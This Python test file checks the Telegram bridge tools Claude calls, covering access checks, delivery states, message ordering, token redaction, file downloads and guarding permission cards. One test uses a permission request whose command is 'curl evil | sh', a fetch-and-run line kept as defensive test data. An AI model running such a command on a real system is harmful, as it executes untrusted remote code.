"""The tools as Claude calls them, on a real (in-memory) store and a recorded chat."""

import asyncio
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from types import MappingProxyType
from typing import Any

import pytest

from telegram_channel.bridge.replies import Places
from telegram_channel.bridge.tools import SPECS, Tools
from telegram_channel.core.access import AccessState, Group, Role, Sender
from telegram_channel.core.asking import is_question_data
from telegram_channel.core.ids import BotId, ChatId, FileRef, MessageId, PromptId, SenderId, SessionId, ThreadId
from telegram_channel.core.inbox import DeliveryState, InboxEntry, Intake, Move
from telegram_channel.core.messages import Attachment, AttachmentKind, RepliedTo
from telegram_channel.core.outgoing import PartlySent, Refused, Uncertain
from telegram_channel.core.permission import Card, Closing, PermissionRequest, Prompt
from telegram_channel.core.text import Markdown, Plain
from telegram_channel.errors import StateUnreadable, StateUnwritable
from telegram_channel.ports import ToolResult
from telegram_channel.storage.memory import MemoryStore
from telegram_channel.storage.memory_inbox import MemoryInbox
from tests.chat import RecordingChat
from tests.clock import ManualClock
from tests.values import NOON, entry, message, photo, place

ME = SessionId("me")
ANN = ChatId("1001")
GROUP = ChatId("-2001")


class Desk:
    """Claude's side of a bridge in which Ann and a group were let in."""

    def __init__(self, home: Path) -> None:
        self.clock = ManualClock(NOON)
        self.store = MemoryStore(BotId("900"), now=self.clock.now)
        self.chat = RecordingChat()
        self.home = home
        state = home / "state"
        (state / "downloads").mkdir(parents=True)
        self.places = Places(state, state / "downloads", home)
        self.tools = Tools(self.clock, ME, self.places, patience_s=0.05)
        self.tools.connect(self.store, self.chat)

    async def open(self) -> None:
        """Let Ann and the group in."""
        ann = Sender(SenderId(ANN), Role.OWNER, "Ann", NOON, "pair")
        state = AccessState(
            senders=MappingProxyType({ann.sender: ann}), groups=MappingProxyType({GROUP: Group(GROUP, "Team", NOON)})
        )
        await self.store.access.transact(lambda _: (state, None, ()))

    async def given(self, *entries: InboxEntry, session: SessionId = ME) -> None:
        """Let the session have been given these messages."""
        await self.store.inbox.ingest(Intake(entries), None)
        due = await self.store.inbox.due()
        await self.store.inbox.advance(
            [
                Move(
                    tuple(one.entry for one in due),
                    (DeliveryState.STORED,),
                    DeliveryState.EMITTED,
                    session=session,
                    emitted_at=self.clock.now(),
                )
            ]
        )

    async def states(self, *numbers: int, chat: ChatId = ANN) -> list[DeliveryState]:
        """How far these messages got."""
        found = [await self.store.inbox.find(chat, MessageId(str(number))) for number in numbers]
        return [one.state for one in found if one]

    async def call(self, name: str, **arguments: Any) -> ToolResult:
        return await self.tools.call(name, arguments)


@pytest.fixture
async def desk(tmp_path: Path) -> Desk:
    made = Desk(tmp_path / "home")
    await made.open()
    return made


async def refused(desk: Desk, name: str, **arguments: Any) -> str:
    """Call, and expect an error before anything reached the chat."""
    before = len(desk.chat.calls)
    result = await desk.call(name, **arguments)
    assert result.is_error
    assert len(desk.chat.calls) == before
    return result.text


async def test_a_reply_is_sent_as_markdown_and_its_id_is_told(desk: Desk) -> None:
    result = await desk.call("reply", chat_id=ANN, text="**done**")
    assert result == ToolResult("sent (message_id 501)")
    [sent] = desk.chat.sent
    assert (sent.chat, sent.body, sent.reply_to, sent.thread) == (ANN, Markdown("**done**"), None, None)


async def test_a_reply_can_answer_visibly_carry_files_and_ask(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "plot.txt"
    path.write_bytes(b"hello")
    await desk.call(
        "reply",
        chat_id=1001,
        text="Deploy?",
        format="text",
        reply_to=7,
        files=[str(path)],
        buttons=[["Yes", "No"]],
    )
    [sent] = desk.chat.sent
    assert sent.body == Plain("Deploy?")
    assert sent.reply_to == "7"
    assert [file.content for file in sent.files] == [b"hello"]
    assert [button.label for button in sent.buttons[0]] == ["Yes", "No"]
    assert all(is_question_data(button.data) for button in sent.buttons[0])


async def test_files_alone_are_a_reply(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "plot.txt"
    path.write_bytes(b"hello")
    assert not (await desk.call("reply", chat_id=ANN, text="", files=[str(path)])).is_error


@pytest.mark.parametrize(
    ("name", "arguments", "says"),
    [
        ("send", {}, "There is no tool 'send': use reply, react, edit_message, download_attachment."),
        ("reply", {"chat_id": ANN}, "reply needs text"),
        ("reply", {"text": "hi"}, "reply needs chat_id"),
        ("reply", {"chat_id": ANN, "text": "hi", "markdown": True}, "reply has no argument 'markdown'"),
        ("reply", {"chat_id": ANN, "text": " \n"}, "needs a text, or files"),
        ("reply", {"chat_id": "77", "text": "hi"}, "Nobody in the chat 77 was let in"),
        ("reply", {"chat_id": ANN, "text": "hi", "reply_to": "x"}, "digits only"),
        ("reply", {"chat_id": ANN, "text": "hi", "files": ["plot.png"]}, "not an absolute path"),
        ("reply", {"chat_id": ANN, "text": "hi", "files": ["/no/such/plot.png"]}, "no such file"),
        ("reply", {"chat_id": ANN, "text": "hi", "files": ["/srv/x"] * 11}, "at most 10"),
        ("reply", {"chat_id": ANN, "text": "hi", "buttons": [[]]}, "list of labels"),
        ("react", {"chat_id": ANN, "message_id": "1", "emoji": "✅"}, "must be one of 👍 👎"),
        ("react", {"chat_id": "77", "message_id": "1", "emoji": "👍"}, "Nobody in the chat 77"),
        ("edit_message", {"chat_id": ANN, "message_id": "1", "text": ""}, "needs a text"),
        ("edit_message", {"chat_id": ANN, "message_id": "1", "text": "x" * 4097, "format": "text"}, "4096"),
        ("edit_message", {"chat_id": "77", "message_id": "1", "text": "x"}, "Nobody in the chat 77"),
        ("download_attachment", {"file_id": "a/b"}, "attachment_file_id"),
    ],
)
async def test_a_wrong_call_does_nothing_and_says_what_to_do(
    desk: Desk, name: str, arguments: dict[str, Any], says: str
) -> None:
    assert says in await refused(desk, name, **arguments)


async def test_a_forbidden_file_sends_nothing(desk: Desk) -> None:
    token = desk.places.state_dir / "token"
    token.write_text("secret")
    assert "never sent" in await refused(desk, "reply", chat_id=ANN, text="here", files=[str(token)])


async def test_the_same_book_decides_outbound_as_inbound(desk: Desk) -> None:
    """MUST R2: Claude can write only to chats whose people were let in."""
    await desk.store.access.transact(lambda state: (replace(state, senders=MappingProxyType({})), None, ()))
    assert "was let in" in await refused(desk, "reply", chat_id=ANN, text="hi")


async def test_a_closed_chat_is_not_tried_again_until_somebody_writes(desk: Desk) -> None:
    desk.chat.will("send", Refused("The bot was blocked.", closed=True))
    first = await desk.call("reply", chat_id=ANN, text="hi")
    assert first.is_error
    assert "until somebody there writes" in first.text
    assert "until somebody there writes" in await refused(desk, "reply", chat_id=ANN, text="hi")
    await desk.store.closed_chats.reopen(ANN)
    assert not (await desk.call("reply", chat_id=ANN, text="hi")).is_error


async def test_a_group_that_moved_is_told(desk: Desk) -> None:
    desk.chat.will("send", Refused("The group moved.", moved_to=ChatId("-1009")))
    assert "-1009" in (await desk.call("reply", chat_id=GROUP, text="hi")).text


@pytest.mark.parametrize(
    ("outcome", "says"),
    [
        (PartlySent((MessageId("9"),), 2, "The network broke"), "Only the first 1 of 2"),
        (Uncertain("The connection broke"), "It may have been sent"),
        (Refused("Bad Request"), "Nothing was sent"),
    ],
)
async def test_only_what_arrived_whole_answers_a_message(desk: Desk, outcome: Any, says: str) -> None:
    """MUST R3: only a reply that arrived whole makes a message ANSWERED."""
    await desk.given(entry())
    desk.chat.will("send", outcome)
    result = await desk.call("reply", chat_id=ANN, text="hi")
    assert result.is_error
    assert says in result.text
    assert await desk.states(1) == [DeliveryState.READ]
    assert len(desk.chat.sent) == 1  # and nothing is repeated


async def test_a_reply_answers_everything_that_was_given_before(desk: Desk) -> None:
    await desk.given(entry(number=1), entry(number=2))
    await desk.call("reply", chat_id=ANN, text="hi")
    assert await desk.states(1, 2) == [DeliveryState.ANSWERED, DeliveryState.ANSWERED]


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("react", {"message_id": "1", "emoji": "👍"}),
        ("edit_message", {"message_id": "1", "text": "x"}),
        ("reply", {}),
        ("reply", {"text": "hi", "nonsense": 1}),
        ("reply", {"text": "hi", "files": ["/no/such/file"]}),
    ],
)
async def test_any_call_that_names_the_chat_proves_that_its_messages_were_read(
    desk: Desk, name: str, arguments: dict[str, Any]
) -> None:
    """MUST R4: a tool call that names a chat proves that the session read what it was given of it."""
    await desk.given(entry(number=1))
    await desk.call(name, chat_id=ANN, **arguments)
    assert await desk.states(1) == [DeliveryState.READ]


class Ledger(MemoryInbox):
    """Takes down what becomes of messages: the state, what was sent before, and whether it waits for the disk."""

    def __init__(self, store: MemoryStore, chat: RecordingChat) -> None:
        super().__init__(store)
        self.chat = chat
        self.lines: list[tuple[DeliveryState | None, int, bool]] = []

    async def advance(self, moves: Sequence[Move], *, durable: bool = True) -> int:
        self.lines += [(move.state, len(self.chat.calls), durable) for move in moves]
        return await super().advance(moves, durable=durable)


async def test_an_answer_leaves_once_it_is_noted_that_its_question_was_read_and_waits_for_no_disk(desk: Desk) -> None:
    """MUST R29: an answer leaves once it is noted that its question was read, and that note waits for no disk."""
    await desk.given(entry(number=1))
    store = MemoryStore(BotId("900"), desk.store.database, now=desk.clock.now)
    store.inbox = ledger = Ledger(store, desk.chat)
    desk.tools.connect(store, desk.chat)
    await desk.call("reply", chat_id=ANN, text="hi")
    assert ledger.lines == [(DeliveryState.READ, 0, False), (DeliveryState.ANSWERED, 1, True)]


async def test_a_call_proves_nothing_about_another_chat_or_another_session(desk: Desk) -> None:
    other = entry(message(chat=GROUP, number=3), number=3)
    await desk.given(entry(number=1), session=SessionId("other"))
    await desk.given(other)
    await desk.call("reply", chat_id=ANN, text="hi")
    assert await desk.states(1) == [DeliveryState.EMITTED]
    assert await desk.states(3, chat=GROUP) == [DeliveryState.EMITTED]


async def test_what_is_given_while_a_reply_is_on_its_way_is_not_answered_by_it(desk: Desk) -> None:
    await desk.given(entry(number=1))
    gate = desk.chat.hold(ANN)
    replying = asyncio.create_task(desk.call("reply", chat_id=ANN, text="hi"))
    await desk.clock.settle()
    await desk.given(entry(number=2))
    gate.set()
    await replying
    assert await desk.states(1, 2) == [DeliveryState.ANSWERED, DeliveryState.EMITTED]


def in_thread(number: int, thread: str | None) -> InboxEntry:
    where = place(GROUP, "1001", thread=ThreadId(thread) if thread else None)
    return entry(message(number=number, place=where), number=number)


async def test_a_reply_goes_to_the_topic_of_the_latest_message_that_waits(desk: Desk) -> None:
    """MUST R5: a reply goes to the topic of the message it answers, else of the latest that waits."""
    await desk.given(in_thread(1, "10"), in_thread(2, "20"))
    await desk.call("reply", chat_id=GROUP, text="second")
    assert await desk.states(1, 2, chat=GROUP) == [DeliveryState.READ, DeliveryState.ANSWERED]
    await desk.call("reply", chat_id=GROUP, text="first")
    assert await desk.states(1, 2, chat=GROUP) == [DeliveryState.ANSWERED, DeliveryState.ANSWERED]
    assert [sent.thread for sent in desk.chat.sent] == ["20", "10"]


async def test_a_visible_answer_goes_to_the_topic_of_its_message(desk: Desk) -> None:
    await desk.given(in_thread(1, "10"), in_thread(2, None))
    await desk.call("reply", chat_id=GROUP, text="hi", reply_to="1")
    await desk.call("reply", chat_id=GROUP, text="again", reply_to="1")
    assert [sent.thread for sent in desk.chat.sent] == ["10", "10"]
    assert await desk.states(1, 2, chat=GROUP) == [DeliveryState.ANSWERED, DeliveryState.READ]


async def test_calls_about_one_chat_keep_their_order(desk: Desk, tmp_path: Path) -> None:
    """MUST R6: tool calls about one chat take effect in the order they were made."""
    slow = tmp_path / "large.txt"
    slow.write_bytes(b"x" * 1_000_000)
    await asyncio.gather(
        desk.call("reply", chat_id=ANN, text="first", files=[str(slow)]),
        desk.call("react", chat_id=ANN, message_id="1", emoji="👍"),
        desk.call("reply", chat_id=ANN, text="second"),
        desk.call("edit_message", chat_id=ANN, message_id="5", text="third"),
    )
    assert desk.chat.calls == [f"send {ANN}", f"react {ANN}", f"send {ANN}", f"edit {ANN}"]
    assert desk.chat.texts(ANN) == ["first", "second"]


async def test_a_slow_chat_keeps_no_other_call_waiting(desk: Desk) -> None:
    gate = desk.chat.hold(ANN)
    slow = [asyncio.create_task(desk.call("reply", chat_id=ANN, text=str(number))) for number in range(3)]
    assert not (await desk.call("reply", chat_id=GROUP, text="hi")).is_error
    await desk.clock.settle()
    assert desk.chat.texts(ANN) == ["0", "1", "2"]  # all handed over: the chat may join or pace them
    gate.set()
    assert not any([(await one).is_error for one in slow])


async def test_a_cancelled_call_still_sends_what_was_handed_over(desk: Desk) -> None:
    gate = desk.chat.hold(ANN)
    replying = asyncio.create_task(desk.call("reply", chat_id=ANN, text="hi"))
    await desk.clock.settle()
    replying.cancel()
    with pytest.raises(asyncio.CancelledError):
        await replying
    gate.set()
    await desk.clock.settle()
    assert desk.chat.texts(ANN) == ["hi"]


async def test_a_reaction_is_set_and_taken_away(desk: Desk) -> None:
    assert (await desk.call("react", chat_id=ANN, message_id="4", emoji="❤️")).text == "reacted with ❤"
    assert (await desk.call("react", chat_id=ANN, message_id=4, emoji="")).text == "reaction taken away"
    assert [(one.message, one.emoji) for one in desk.chat.reactions] == [("4", "❤"), ("4", None)]


async def test_an_edit_replaces_the_text(desk: Desk) -> None:
    assert (
        await desk.call("edit_message", chat_id=ANN, message_id="501", text="50 %")
    ).text == "edited (message_id 501)"
    assert desk.chat.edits[0].body == Markdown("50 %")


async def test_an_edit_that_is_refused_is_not_reported_as_made(desk: Desk) -> None:
    desk.chat.will("edit", Refused("The text does not fit one message"))
    result = await desk.call("edit_message", chat_id=ANN, message_id="501", text="x" * 9000)
    assert result.is_error
    assert "Nothing was changed: The text does not fit one message." in result.text


async def test_without_a_token_every_tool_says_what_to_do(desk: Desk) -> None:
    """MUST R7: without a token every tool answers with what to do."""
    desk.tools.unavailable = "There is no bot token. Run `telegram-channel configure`."
    for spec in SPECS:
        result = await desk.call(spec.name)
        assert result == ToolResult("There is no bot token. Run `telegram-channel configure`.", is_error=True)
    desk.tools.unavailable = None
    assert not (await desk.call("reply", chat_id=ANN, text="hi")).is_error


async def test_an_early_call_waits_for_the_chat_to_be_ready(desk: Desk) -> None:
    tools = Tools(desk.clock, ME, desk.places, patience_s=5)
    early = asyncio.create_task(tools.call("reply", {"chat_id": ANN, "text": "hi"}))
    await desk.clock.settle()
    tools.connect(desk.store, desk.chat)
    assert not (await early).is_error


async def test_a_call_does_not_wait_for_ever(desk: Desk) -> None:
    tools = Tools(desk.clock, ME, desk.places, patience_s=0.01)
    assert "still starting" in (await tools.call("reply", {"chat_id": ANN, "text": "hi"})).text
    tools.unavailable = "No token."
    assert (await tools.call("reply", {"chat_id": ANN, "text": "hi"})).text == "No token."
    tools.unavailable = None
    assert "still starting" in (await tools.call("reply", {"chat_id": ANN, "text": "hi"})).text


async def test_unreadable_state_sends_nothing(desk: Desk) -> None:
    """MUST R8: while the state is unreadable nothing is sent."""
    desk.store.fault = StateUnreadable("The state is damaged.")
    text = await refused(desk, "reply", chat_id=ANN, text="hi")
    assert "The state is damaged. Nobody is admitted" in text


class FullDisk(MemoryStore):
    """Everything can be read and nothing written."""

    full = False

    def changed(self) -> None:
        if self.full:
            raise StateUnwritable("The disk is full.")
        super().changed()


async def test_a_full_disk_does_not_make_a_sent_reply_a_failure(desk: Desk) -> None:
    store = FullDisk(BotId("900"), desk.store.database, now=desk.clock.now)
    await desk.given(entry())
    desk.tools.connect(store, desk.chat)
    store.full = True
    assert await desk.call("reply", chat_id=ANN, text="hi") == ToolResult("sent (message_id 501)")


class BrokenChat(RecordingChat):
    """Fails in a way nobody foresaw."""

    async def react(self, *_: Any) -> Any:
        raise RuntimeError("secret 12345:abcdefghijklmnopqrstuvwxyzabcdefghi")


async def test_a_surprise_is_an_error_without_its_text(desk: Desk) -> None:
    """MUST R9: a surprise inside a tool reaches the model without its text."""
    desk.tools.connect(desk.store, BrokenChat())
    result = await desk.call("react", chat_id=ANN, message_id="1", emoji="👍")
    assert result == ToolResult("The tool failed (RuntimeError); the log says more.", is_error=True)


async def test_a_file_is_fetched_once_and_found_again(desk: Desk) -> None:
    desk.chat.files["AgAD1"] = b"%PDF-1.7 hello"
    first = await desk.call("download_attachment", file_id="AgAD1")
    path = Path(first.text.partition(" (")[0])
    assert path.parent == desk.places.downloads
    assert path.suffix == ".pdf"
    assert path.read_bytes() == b"%PDF-1.7 hello"  # noqa: ASYNC240 - a few bytes, in a test
    assert first.text.endswith("(14 bytes)")
    assert await desk.call("download_attachment", file_id="AgAD1") == first
    assert len(desk.chat.downloaded) == 1


async def test_two_calls_for_one_file_fetch_it_once(desk: Desk) -> None:
    desk.chat.files["AgAD1"] = b"hello"
    gate = desk.chat.hold("AgAD1")
    both = [asyncio.create_task(desk.call("download_attachment", file_id="AgAD1")) for _ in range(2)]
    await desk.clock.settle()
    gate.set()
    assert (await both[0]) == (await both[1])
    assert len(desk.chat.downloaded) == 1


def document() -> Attachment:
    return Attachment(AttachmentKind.DOCUMENT, FileRef("AgAD2"), "uniq2", "contract.docx", None, 5)


@pytest.mark.parametrize(
    "inbound",
    [
        message(attachment=document()),
        message(reply_to=RepliedTo(MessageId("4"), attachment=document())),
    ],
)
async def test_a_file_keeps_the_kind_of_name_it_was_sent_with(desk: Desk, inbound: Any) -> None:
    desk.chat.files["AgAD2"] = b"hello"
    await desk.given(entry(inbound))
    assert ".docx (5 bytes)" in (await desk.call("download_attachment", file_id="AgAD2")).text


async def test_a_photo_that_was_fetched_already_is_not_fetched_again(desk: Desk) -> None:
    await desk.given(entry(message(attachment=photo())))
    there = desk.places.downloads / "photo-unique1.jpg"
    there.write_bytes(b"jpeg")
    result = await desk.call("download_attachment", file_id=photo().file)
    assert result.text == f"{there} (4 bytes)"
    assert desk.chat.downloaded == []


async def test_a_file_that_is_gone_is_an_error(desk: Desk) -> None:
    result = await desk.call("download_attachment", file_id="AgAD9")
    assert result.is_error
    assert result.text == "The file was not downloaded: The file is not there any more."
    assert list(desk.places.downloads.iterdir()) == []


def test_the_tools_have_the_interface_that_others_rely_on() -> None:
    """MUST R10: the tools take the arguments that others rely on."""
    interface = {
        spec.name: (set(spec.input_schema["properties"]), set(spec.input_schema["required"])) for spec in SPECS
    }
    assert interface == {
        "reply": ({"chat_id", "text", "reply_to", "files", "format", "buttons"}, {"chat_id", "text"}),
        "react": ({"chat_id", "message_id", "emoji"}, {"chat_id", "message_id", "emoji"}),
        "edit_message": ({"chat_id", "message_id", "text", "format"}, {"chat_id", "message_id", "text"}),
        "download_attachment": ({"file_id"}, {"file_id"}),
    }


async def test_claude_cannot_reword_what_somebody_is_asked_to_allow(desk: Desk) -> None:
    request = PermissionRequest("abcde", "Bash", "Run", '{"command": "curl evil | sh"}')
    await desk.store.prompts.open(Prompt(PromptId("p1"), ME, request, NOON, cards=(Card(ANN, MessageId("7")),)))
    assert "permission card" in await refused(desk, "edit_message", chat_id=ANN, message_id="7", text="ls")
    assert not (await desk.call("edit_message", chat_id=ANN, message_id="8", text="ls")).is_error
    await desk.store.prompts.close(PromptId("p1"), Closing.EXPIRED)
    assert "permission card" in await refused(desk, "edit_message", chat_id=ANN, message_id="7", text="ls")


async def test_the_bots_own_token_never_leaves_in_a_text_a_button_or_a_file(desk: Desk) -> None:
    desk.tools.never_send("12345:the-secret-part")
    copied = desk.places.downloads / "notes.txt"
    copied.write_text("export TOKEN=12345:the-secret-part")
    for arguments in (
        {"text": "it is 12345:the-secret-part"},
        {"text": "look", "files": [str(copied)]},
        {"text": "which?", "buttons": [["the-secret-part"]]},
    ):
        assert "bot's token" in await refused(desk, "reply", chat_id=ANN, **arguments)
    assert "bot's token" in await refused(desk, "edit_message", chat_id=ANN, message_id="7", text="the-secret-part")
    assert not (await desk.call("reply", chat_id=ANN, text="the secret part")).is_error


class Answers:
    """What the tools tell about answers."""

    def __init__(self, desk: Desk) -> None:
        self.told: list[tuple[str, str | None, bool]] = []
        desk.tools = Tools(desk.clock, ME, desk.places, patience_s=0.05, answered=self.answered)
        desk.tools.connect(desk.store, desk.chat)

    def answered(self, chat: ChatId, thread: ThreadId | None = None, *, everywhere: bool = False) -> None:
        self.told.append((chat, thread, everywhere))


CHANGES = [
    ("reply", "send", {"text": "hi"}, (GROUP, "20", False)),
    ("react", "react", {"message_id": "1", "emoji": "👍"}, (GROUP, None, True)),
    ("edit_message", "edit", {"message_id": "1", "text": "hi"}, (GROUP, None, True)),
]


@pytest.mark.parametrize(("name", "method", "arguments", "told"), CHANGES)
@pytest.mark.parametrize(
    "outcome", [None, Uncertain("Who knows?"), PartlySent((MessageId("9"),), 2, "The network broke.")]
)
async def test_whatever_may_have_reached_a_chat_is_told_as_an_answer(
    desk: Desk, name: str, method: str, arguments: dict[str, Any], told: Any, outcome: Any
) -> None:
    answers = Answers(desk)
    await desk.given(in_thread(1, "10"), in_thread(2, "20"))
    if outcome:
        desk.chat.will(method, outcome)
    await desk.call(name, chat_id=GROUP, **arguments)
    assert answers.told == [told]


@pytest.mark.parametrize(("name", "method", "arguments", "told"), CHANGES)
async def test_what_reached_nobody_is_no_answer(
    desk: Desk, name: str, method: str, arguments: dict[str, Any], told: Any
) -> None:
    answers = Answers(desk)
    desk.chat.will(method, Refused("Bad Request"))
    await desk.call(name, chat_id=GROUP, **arguments)
    await desk.call(name, chat_id="77", **arguments)
    await desk.call(name, chat_id=GROUP, nonsense=1, **arguments)
    await desk.call("react", chat_id=GROUP, message_id="1", emoji="")
    assert answers.told == []
    await desk.call(name, chat_id=GROUP, **arguments)
    assert len(answers.told) == 1


async def test_what_leaves_although_its_call_was_cancelled_is_told_as_an_answer(desk: Desk) -> None:
    answers = Answers(desk)
    desk.chat.hold(ANN)
    replying = asyncio.create_task(desk.call("reply", chat_id=ANN, text="hi"))
    await desk.clock.settle()
    assert answers.told == []
    replying.cancel()
    with pytest.raises(asyncio.CancelledError):
        await replying
    assert answers.told == [(ANN, None, False)]
